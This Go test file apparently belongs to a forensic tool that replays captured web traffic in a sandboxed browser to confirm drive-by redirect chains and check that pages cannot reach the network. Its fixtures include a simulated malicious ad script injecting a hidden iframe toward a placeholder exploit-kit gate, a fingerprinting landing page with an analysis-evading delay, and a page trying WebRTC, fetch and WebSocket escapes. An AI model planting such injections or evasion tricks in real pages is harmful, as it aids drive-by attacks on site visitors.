package browse

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"kagami/evidence/replay"
	"kagami/evidence/replay/server"
)

func TestMain(m *testing.M) {
	if IsInside() {
		os.Exit(Inside())
	}
	os.Exit(m.Run())
}

// began is when the test's captures do: not today.
var began = time.Date(2013, 7, 5, 12, 0, 0, 0, time.UTC)

// exchange is a transaction that was captured as a whole.
func exchange(client, target string, status int, fields []replay.Field, body string, ask ...replay.Field) *replay.Transaction {
	u, err := url.Parse(target)
	if err != nil {
		panic(err)
	}
	q := &replay.Request{Method: "GET", URL: u, Target: u.RequestURI()}
	q.Version = "HTTP/1.1"
	q.Header = append([]replay.Field{{Name: "Host", Value: u.Host}}, ask...)
	a := &replay.Response{Status: status, Reason: http.StatusText(status)}
	a.Version, a.Header = "HTTP/1.1", fields
	a.Body = replay.Body{Wire: []byte(body), Data: []byte(body), Declared: int64(len(body)), Complete: true, Declares: "text/html"}
	f := &replay.Flow{Client: netip.AddrPortFrom(netip.MustParseAddr(client), 40000), Server: netip.MustParseAddrPort("203.0.113.7:80"), Protocol: "http/1"}
	return &replay.Transaction{Flow: f, Request: q, Response: a}
}

func kind(mediaType string) []replay.Field {
	return []replay.Field{{Name: "Content-Type", Value: mediaType}}
}

// get is a request that was answered by a page.
func get(target, body string, ask ...replay.Field) *replay.Transaction {
	return exchange("192.168.1.46", target, 200, kind("text/html"), body, ask...)
}

func reading(ts ...*replay.Transaction) *replay.Reading {
	for i, t := range ts {
		t.Number = i
		t.Request.Time = began.Add(time.Duration(i) * time.Second).UnixNano()
		t.Request.End, t.Response.Time, t.Response.End = t.Request.Time+1000, t.Request.Time+1_000_000, t.Request.Time+2_000_000
		t.Request.Frame, t.Response.Frame = 2*i+1, 2*i+2
	}
	return &replay.Reading{Transactions: ts, First: began.UnixNano(), Last: began.Add(time.Minute).UnixNano()}
}

// walkTest walks with a real browser, or says why it cannot.
func walkTest(t *testing.T, r *replay.Reading, start *replay.Transaction, limit time.Duration) (*Result, *replay.Chain) {
	t.Helper()
	if testing.Short() {
		t.Skip("starts a browser")
	}
	if _, err := find(""); err != nil {
		t.Skip(err)
	}
	c := replay.Build(r)
	res, err := Walk(t.Context(), Options{Reading: r, Chain: c, Start: start, Timeout: limit})
	if err != nil {
		if s := err.Error(); strings.Contains(s, "user namespaces") || strings.Contains(s, "prepare namespaces") || strings.Contains(s, "mount /proc") {
			t.Skip(err)
		}
		t.Fatal(err)
	}
	t.Logf("%s, sandbox %v: %d asked, %d answered, %d missed, noise %d, %d of %d edges, interfaces %+v, %v", res.Browser, res.Sandbox,
		res.Asked, len(res.Answered), len(res.Missed), res.Noise, res.Confirmed, res.Edges, res.Interfaces, res.Duration)
	for _, s := range res.Steps {
		t.Logf("%s -> %s (new: %v)", s.From.Request.URL, s.To.Request.URL, s.New)
	}
	for _, m := range res.Missed[:min(len(res.Missed), 10)] {
		t.Logf("missed %s %s: %s", m.Method, m.URL, m.Reason)
	}
	nothingLeft(t, res)
	return res, c
}

// nothingLeft checks the counters of the namespace.
func nothingLeft(t *testing.T, r *Result) {
	t.Helper()
	if r.Left != 0 {
		t.Errorf("%d packets left", r.Left)
	}
	lo := slices.IndexFunc(r.Interfaces, func(i Interface) bool { return i.Name == loopback })
	if lo < 0 || r.Interfaces[lo].Sent == 0 {
		t.Errorf("interfaces %+v: the counters do not even show what went to the proxy", r.Interfaces)
	}
}

func steps(r *Result) (all []string) {
	for _, s := range r.Steps {
		all = append(all, s.From.Request.URL.String()+" -> "+s.To.Request.URL.String())
	}
	return all
}

// The frame is of a script's making, its address is nowhere in clear, and a 302 comes
// before what it shows.
func TestWalkConfirms(t *testing.T) {
	agent := replay.Field{Name: "User-Agent", Value: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1)"}
	page := get("http://victim.example/index.php", `<html><body>hello<script src="/ads.js"></script></body></html>`, agent, replay.Field{Name: "Accept-Language", Value: "ja,en-US;q=0.5"})
	script := exchange("192.168.1.46", "http://victim.example/ads.js", 200, kind("application/javascript"),
		`var k="gate.example";alert("x");document.write("<ifr"+"ame width=1 height=1 src='http://"+k.split("").reverse().reverse().join("")+"/in?u="+screen.deviceXDPI+"'></ifr"+"ame>");`, agent)
	gate := exchange("192.168.1.46", "http://gate.example/in?u=undefined", 302, []replay.Field{{Name: "Location", Value: "https://kit.example/land"}}, "", agent)
	landing := get("https://kit.example/land", `<script>
		var late = new Date().getFullYear();
		setTimeout(function() { location.href = "/show?year=" + late + "&ua=" + /MSIE 8/.test(navigator.userAgent) + "&platform=" + navigator.platform +
			"&language=" + navigator.language + "&driven=" + !!navigator.webdriver; }, 45000);
		</script>`, agent)
	show := get("https://kit.example/show?year=2013&ua=true&platform=Win32&language=ja&driven=false", "<p>here it would attack</p>", agent)
	never := get("http://victim.example/clicked", "<p>the victim went here by a link</p>", agent, replay.Field{Name: "Referer", Value: "http://victim.example/index.php"})
	r := reading(page, script, gate, landing, show, never)
	res, c := walkTest(t, r, nil, 40*time.Second)
	want := []string{
		"http://victim.example/index.php -> http://victim.example/ads.js",
		"http://victim.example/ads.js -> http://gate.example/in?u=undefined",
		"http://gate.example/in?u=undefined -> https://kit.example/land",
		"https://kit.example/land -> " + show.Request.URL.String(),
	}
	if got := steps(res); !slices.Equal(got, want) {
		t.Errorf("steps %q, want %q", got, want)
	}
	for _, x := range []*replay.Transaction{script, gate, landing, show} {
		if in := c.Node(x).In; len(in) == 0 || in[0].Kind != replay.EdgeConfirmed {
			t.Errorf("%s is not confirmed in the chain: %+v", x.Request.URL, in)
		}
	}
	if in := c.Node(never).In; slices.ContainsFunc(in, func(e replay.Edge) bool { return e.Kind == replay.EdgeConfirmed }) {
		t.Error("what nobody asked for is confirmed")
	}
	if res.Start != page || res.Confirmed < 2 || res.Confirmed >= res.Edges || len(res.Answered) != 5 || res.Timeout {
		t.Errorf("start %v, %d of %d edges, %d answered, timeout %v", res.Start.Request.URL, res.Confirmed, res.Edges, len(res.Answered), res.Timeout)
	}
}

// The page tries what a page can to get out. That it really ran is shown by what it
// asks for in the end.
func TestNothingLeaves(t *testing.T) {
	page := get("http://victim.example/", `<img src="http://192.0.2.1/direct.gif"><link rel="dns-prefetch" href="//leak.example.net"><link rel="preconnect" href="https://192.0.2.2">
		<script>
		var done = 0;
		function next() { if (++done == 3) new Image().src = "/done.gif"; }
		var p = new RTCPeerConnection({iceServers: [{urls: ["stun:192.0.2.3:3478", "stun:stun.leak.example.net"]}, {urls: "turn:192.0.2.4?transport=tcp", username: "a", credential: "b"}]});
		p.createDataChannel("x");
		p.createOffer().then(function(o) { return p.setLocalDescription(o); }).then(next, next);
		fetch("http://192.0.2.1:8080/x", {mode: "no-cors"}).then(next, next);
		var s = new WebSocket("ws://192.0.2.5/socket");
		s.onerror = s.onopen = next;
		</script>`)
	done := exchange("192.168.1.46", "http://victim.example/done.gif", 200, kind("image/gif"), "GIF89a")
	res, _ := walkTest(t, reading(page, done), page, 40*time.Second)
	if len(res.Interfaces) != 1 {
		t.Errorf("interfaces %+v, want loopback alone", res.Interfaces)
	}
	if got := steps(res); !slices.Equal(got, []string{"http://victim.example/ -> http://victim.example/done.gif"}) {
		t.Errorf("steps %q: the page did not run to its end", got)
	}
	for _, want := range []string{"http://192.0.2.1/direct.gif", "http://192.0.2.1:8080/x"} {
		if !slices.ContainsFunc(res.Missed, func(m server.Miss) bool { return m.URL == want }) {
			t.Errorf("%s is not among what was missed", want)
		}
	}
}

// A page that never comes to rest is left when the time is up, with all that runs.
func TestWalkEnds(t *testing.T) {
	agent := fmt.Sprintf("walk-ends/%d", os.Getpid()) // is in the command line of what runs
	page := get("http://victim.example/", `<script>var n = 0; function on() { fetch("/x" + n++).then(on, on); } on(); for (var i = 0; i < 3; i++) new Worker("/w.js")</script>`,
		replay.Field{Name: "User-Agent", Value: agent})
	worker := exchange("192.168.1.46", "http://victim.example/w.js", 200, kind("application/javascript"), `for (;;);`)
	done, ran := make(chan struct{}), make(chan bool)
	go func() {
		seen := false
		for {
			select {
			case <-done:
				ran <- seen
				return
			case <-time.After(100 * time.Millisecond):
				seen = seen || running(agent) > 0
			}
		}
	}()
	const limit = 4 * time.Second
	began := time.Now()
	res, _ := walkTest(t, reading(page, worker), nil, limit)
	if took := time.Since(began); took > limit+grace || !res.Timeout || res.Died {
		t.Errorf("it took %v, timeout %v, died %v", took, res.Timeout, res.Died)
	}
	if res.Asked < 20 || len(res.Missed) != min(res.Asked-len(res.Answered), maxMissed) {
		t.Errorf("%d asked, %d answered, %d missed: it did not ask without an end", res.Asked, len(res.Answered), len(res.Missed))
	}
	close(done)
	if !<-ran {
		t.Error("the browser was not among the processes while it ran")
	}
	if n := running(agent); n != 0 {
		t.Errorf("%d processes still run", n)
	}
}

// Whoever waits for the walk no longer need not wait for its end.
func TestWalkIsCut(t *testing.T) {
	agent := fmt.Sprintf("walk-cut/%d", os.Getpid())
	page := get("http://victim.example/", `<script>for (;;);</script>`, replay.Field{Name: "User-Agent", Value: agent})
	if _, err := find(""); err != nil || testing.Short() {
		t.Skip("no browser, or a short run")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Second)
	defer cancel()
	began := time.Now()
	r := reading(page)
	if _, err := Walk(ctx, Options{Reading: r, Chain: replay.Build(r)}); err == nil {
		t.Error("no error")
	}
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("it took %v", took)
	}
	if n := running(agent); n != 0 {
		t.Errorf("%d processes still run", n)
	}
}

// running counts the processes that have a word in their command lines.
func running(word string) (n int) {
	for _, line := range commandLines() {
		if strings.Contains(line, word) {
			n++
		}
	}
	return n
}

func commandLines() (all []string) {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if b, err := os.ReadFile(fmt.Sprintf("/proc/%s/cmdline", e.Name())); err == nil {
			all = append(all, string(b))
		}
	}
	return all
}
